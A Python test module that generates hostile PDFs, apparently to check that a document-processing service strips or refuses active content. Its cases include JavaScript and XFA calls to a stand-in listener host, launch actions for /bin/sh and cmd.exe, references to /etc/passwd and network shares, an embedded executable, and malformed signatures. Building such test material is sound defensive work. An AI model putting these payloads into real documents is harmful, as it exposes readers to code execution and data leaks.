"""PDFs with active content: scripts, launch actions, external references, submissions, attachments."""

from __future__ import annotations

from functools import partial

from tests.hostile.case import CANARY, LISTENER, LOCKED, MENDED, TAKEN, Case
from tests.hostile.pdf_parts import MARKS, document, drawing, hand_written_pdf, page, stream
from tests.suppliers.documents import sample_files

URL = b"(http://" + LISTENER + b"/" + CANARY + b")"
SHARE = b"(\\\\\\\\" + LISTENER + b"\\\\share\\\\x.pdf)"
THERE = b"<< /Type /Filespec /FS /URL /F " + URL + b" /UF " + URL + b" >>"
ALERT = b"(app.alert('" + CANARY + b"'); app.launchURL('http://" + LISTENER + b"/');)"
ACTIONS = {
    "script": b"<< /S /JavaScript /JS " + ALERT + b" >>",
    "script-that-never-ends": b"<< /S /JavaScript /JS (while (true) { this.x = [this.x, this.x]; }) >>",
    "script-of-a-megabyte": b"<< /S /JavaScript /JS (" + b"a+=1;" * 200_000 + b") >>",
    "start": b"<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc " + CANARY + b") >> >>",
    "start-from-share": b"<< /S /Launch /F " + SHARE + b" /NewWindow true >>",
    "address": b"<< /S /URI /URI " + URL + b" >>",
    "address-of-script": b"<< /S /URI /URI (javascript:alert\\(1\\)) >>",
    "address-of-file": b"<< /S /URI /URI (file:///etc/passwd) >>",
    "elsewhere": b"<< /S /GoToR /D [0 /Fit] /F " + THERE + b" >>",
    "elsewhere-on-a-share": b"<< /S /GoToR /D [0 /Fit] /F " + SHARE + b" >>",
    "embedded": b"<< /S /GoToE /D [0 /Fit] /T << /R /C /N (x) /T << /R /C /N (x) >> >> /F " + THERE + b" >>",
    "send-form": b"<< /S /SubmitForm /Flags 32 /F " + THERE + b" >>",
    "take-in": b"<< /S /ImportData /F " + THERE + b" >>",
    "film": b"<< /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D " + THERE + b" >> >> /JS " + ALERT + b" >>",
    "sound": b"<< /S /Sound /Sound 4 0 R /Repeat true >>",
    "old-film": b"<< /S /Movie /Operation /Play >>",
    "thread": b"<< /S /Thread /D 0 /F " + THERE + b" >>",
    "named-print": b"<< /S /Named /N /Print >>",
    "layers-on": b"<< /S /SetOCGState /State [/Toggle 4 0 R] >>",
    "of-no-kind": b"<< /S /" + b"A" * 5000 + b" /F " + THERE + b" >>",
}
HELD = stream(CANARY * 10, b"/Type /EmbeddedFile /Subtype /application#2Fx-msdownload")
FILE = b"<< /Type /Filespec /F (run-me.exe) /UF (run-me.exe) /EF << /F 6 0 R >> >>"
XFA = (
    b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template xmlns='http://www.xfa.org/schema/xfa-template/2.8/'>"
    b"<subform name='a'><event activity='initialize'><script contentType='application/x-javascript'>"
    b"xfa.host.gotoURL('http://" + LISTENER + b"/')</script></event></subform></template></xdp:xdp>"
)


def on_opening(action: bytes) -> bytes:
    return document(root=b" /OpenAction " + action)


def on_page(action: bytes) -> bytes:
    """Scripts on opening and closing the page, and on pressing its only button."""
    button = b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A %s /AA << /E %s /PO %s >> >>" % ((action,) * 3)
    return document(page=b" /AA << /O %s /C %s >> /Annots [5 0 R]" % (action, action), more=(button,))


def on_everything(action: bytes) -> bytes:
    every = b" ".join(b"/%s %s" % (event, action) for event in (b"WC", b"WS", b"DS", b"WP", b"DP"))
    field = (
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (1) /Rect [50 50 300 80] /A %s /AA << /K %s /F %s /V %s /C %s >> >>"
        % ((action,) * 5)
    )
    form = b" /AcroForm << /Fields [5 0 R] /NeedAppearances true /CO [5 0 R] >> /AA << " + every + b" >>"
    return document(root=form, page=b" /Annots [5 0 R]", more=(field,))


def xfa(parts: bytes) -> bytes:
    return document(
        root=b" /AcroForm << /Fields [] /XFA %s >> /NeedsRendering true" % parts, more=(stream(XFA), stream(XFA * 2000))
    )


def with_attachment(root: bytes = b"", page: bytes = b"", *more: bytes) -> bytes:
    """Object 5 describes the file, object 6 is the file."""
    return document(root=root, page=page, more=(FILE, HELD, *more))


def fetched_picture(entries: bytes) -> bytes:
    """A picture whose bytes are in another file."""
    picture = stream(
        b"",
        b"/Type /XObject /Subtype /Image /Width 10 /Height 10 /ColorSpace /DeviceGray /BitsPerComponent 8 " + entries,
    )
    return drawing(b"500 0 0 700 40 40 cm /I Do", picture, resources=b"/XObject << /I 5 0 R >>")


def fetched_form() -> bytes:
    """A form that refers to a page of another file."""
    form = stream(
        MARKS, b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Ref << /F " + THERE + b" /Page 0 /ID [(a) (b)] >>"
    )
    return drawing(b"/F Do", form, resources=b"/XObject << /F 5 0 R >>")


def fetched_font() -> bytes:
    return drawing(
        b"BT /F 20 Tf 50 700 Td (SPECIMEN) Tj ET",
        b"<< /Type /Font /Subtype /TrueType /BaseFont /Elsewhere /FontDescriptor 6 0 R >>",
        b"<< /Type /FontDescriptor /FontName /Elsewhere /Flags 32 /FontFile2 7 0 R >>",
        stream(b"", b"/F " + THERE),
        resources=b"/Font << /F 5 0 R >>",
    )


def annotation_page(entries: bytes, *more: bytes) -> bytes:
    """One annotation of this kind."""
    return document(
        page=b" /Annots [5 0 R]", more=(b"<< /Type /Annot /Rect [50 50 500 500] " + entries + b" >>", *more)
    )


def signature(entries: bytes) -> bytes:
    field = b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (s) /Rect [0 0 0 0] /V 6 0 R >>"
    value = b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached %s >>" % entries
    return document(root=b" /AcroForm << /SigFlags 3 /Fields [5 0 R] >>", page=b" /Annots [5 0 R]", more=(field, value))


def encrypted_pdf(entries: bytes, *, keys: bool = True) -> bytes:
    """Encrypted, as it states, with an unknown password."""
    words = b"/O <%s> /U <%s> /P -4 " % (b"41" * 32, b"42" * 32) if keys else b""
    whole = hand_written_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                             b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>", stream(MARKS))  # fmt: skip
    trailer = b"trailer << /ID [<4142> <4142>] /Encrypt << %s %s >> " % (entries, words)
    return whole.replace(b"trailer << ", trailer)


SHUT = LOCKED | MENDED
CASES = (
    *(Case(f"{name}-on-opening.pdf", TAKEN, partial(on_opening, action)) for name, action in ACTIONS.items()),
    *(Case(f"{name}-on-page.pdf", TAKEN, partial(on_page, action)) for name, action in ACTIONS.items()),
    *(Case(f"{name}-on-everything.pdf", TAKEN, partial(on_everything, ACTIONS[name]))
      for name in ("script", "start", "address", "elsewhere", "send-form", "take-in")),
    Case("ten-thousand-scripts.pdf", TAKEN, lambda: document(
        root=b" /Names << /JavaScript << /Names [" + b"(a) 5 0 R " * 10_000 + b"] >> >>", more=(ACTIONS["script"],))),
    Case("xfa.pdf", TAKEN, partial(xfa, b"5 0 R")),
    Case("xfa-in-parts.pdf", TAKEN, partial(xfa, b"[(template) 5 0 R (form) 6 0 R (datasets) 5 0 R]")),
    Case("file-within.pdf", TAKEN, partial(with_attachment, b" /Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>")),
    Case("file-of-the-page.pdf", TAKEN, partial(with_attachment, b" /AF [5 0 R]", b" /AF [5 0 R]")),
    Case("portfolio.pdf", TAKEN, partial(
        with_attachment, b" /Collection << /View /T /D (a) >> /Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>")),
    Case("document-clip.pdf", TAKEN, partial(
        with_attachment, b"", b" /Annots [7 0 R]", b"<< /Type /Annot /Subtype /FileAttachment /Rect [9 9 99 99] /FS 5 0 R >>")),
    Case("picture-elsewhere.pdf", TAKEN, partial(fetched_picture, b"/F " + THERE)),
    Case("picture-on-a-share.pdf", TAKEN, partial(fetched_picture, b"/F " + SHARE)),
    Case("picture-by-file.pdf", TAKEN, partial(fetched_picture, b"/F (/etc/passwd)")),
    Case("picture-proxied.pdf", TAKEN, partial(
        fetched_picture, b"/OPI << /2.0 << /Type /OPI /Version 2.0 /F " + THERE + b" >> >>")),
    Case("form-elsewhere.pdf", TAKEN, fetched_form),
    Case("font-elsewhere.pdf", TAKEN, fetched_font),
    Case("drawing-elsewhere.pdf", TAKEN, lambda: sample_files.page_showing(stream(b"", b"/F " + THERE))),
    Case("base-address.pdf", TAKEN, lambda: document(root=b" /URI << /Base " + URL + b" >>")),
    Case("rich-media.pdf", TAKEN, partial(
        annotation_page, b"/Subtype /RichMedia /RichMediaContent << /Assets << /Names [(a.swf) 6 0 R] >> >>", FILE, HELD)),
    Case("three-dimensions.pdf", TAKEN, partial(
        annotation_page, b"/Subtype /3D /3DD 6 0 R", stream(bytes(500), b"/Type /3D /Subtype /U3D /OnInstantiate 6 0 R"))),
    Case("film-elsewhere.pdf", TAKEN, partial(annotation_page, b"/Subtype /Movie /Movie << /F " + THERE + b" /Poster true >> /A true")),
    Case("screen.pdf", TAKEN, partial(annotation_page, b"/Subtype /Screen /A " + ACTIONS["film"])),
    Case("note-with-html.pdf", TAKEN, partial(annotation_page, b"/Subtype /FreeText /Contents (<script>) /RC (<body><script>) /DA (/Helv 9 Tf)")),
    Case("ten-thousand-notes.pdf", TAKEN, lambda: document(
        page=b" /Annots [" + b"5 0 R " * 10_000 + b"]", more=(b"<< /Type /Annot /Subtype /Text /Rect [9 9 99 99] >>",))),
    Case("names-with-escapes.pdf", TAKEN, lambda: document(more=(
        b"<< /Title (\\000\\377<script>) >>",), root=b" /Lang (\x1b[2J)").replace(b"trailer <<", b"trailer << /Info 5 0 R")),
    *(Case(f"signature-{name}.pdf", TAKEN, partial(signature, entries)) for name, entries in {
        "of-nothing": b"/ByteRange [0 0 0 0] /Contents <00>",
        "below-nothing": b"/ByteRange [-5 10 -20 99999999999] /Contents <3003020100>",
        "beyond-the-end": b"/ByteRange [0 99999999999 99999999999 99999999999] /Contents <" + b"30" * 5000 + b">",
        "in-pieces": b"/ByteRange [" + b"0 1 " * 10_000 + b"] /Contents <00>",
        "without-range": b"/Contents (no)",
        "nested": b"/ByteRange [0 10 20 10] /Contents <" + b"3080" * 20_000 + b">",
    }.items()),
    *(Case(f"locked-{name}.pdf", SHUT, partial(encrypted_pdf, entries, keys=keys)) for name, keys, entries in (
        ("40-bits", True, b"/Filter /Standard /V 1 /R 2"),
        ("128-bits", True, b"/Filter /Standard /V 2 /R 3 /Length 128"),
        ("aes-128", True, b"/Filter /Standard /V 4 /R 4 /Length 128 /CF << /A << /CFM /AESV2 >> >> /StmF /A /StrF /A"),
        ("aes-256", True, b"/Filter /Standard /V 5 /R 6 /Length 256 /OE <00> /UE <00> /Perms <00>"),
        ("by-key", False, b"/Filter /Adobe.PubSec /SubFilter /adbe.pkcs7.s5 /V 4 /Recipients [<30>]"),
        ("by-unknown-handler", False, b"/Filter /Nobody /V 99 /R 99"),
        ("without-keys", False, b"/Filter /Standard /V 1 /R 2"),
        ("key-of-no-length", True, b"/Filter /Standard /V 2 /R 3 /Length -8"),
        ("key-too-long", True, b"/Filter /Standard /V 2 /R 3 /Length 999999999"),
        ("filters-in-a-ring", True, b"/Filter /Standard /V 4 /R 4 /CF << /A << /CFM /A >> >> /StmF /B /StrF /B"),
    )),
    Case("locked-by-password.pdf", LOCKED, partial(sample_files.pdf, password="nobody knows")),
    Case("script-in-the-size.pdf", MENDED, partial(page, b"/MediaBox " + ACTIONS["script"])),
)  # fmt: skip
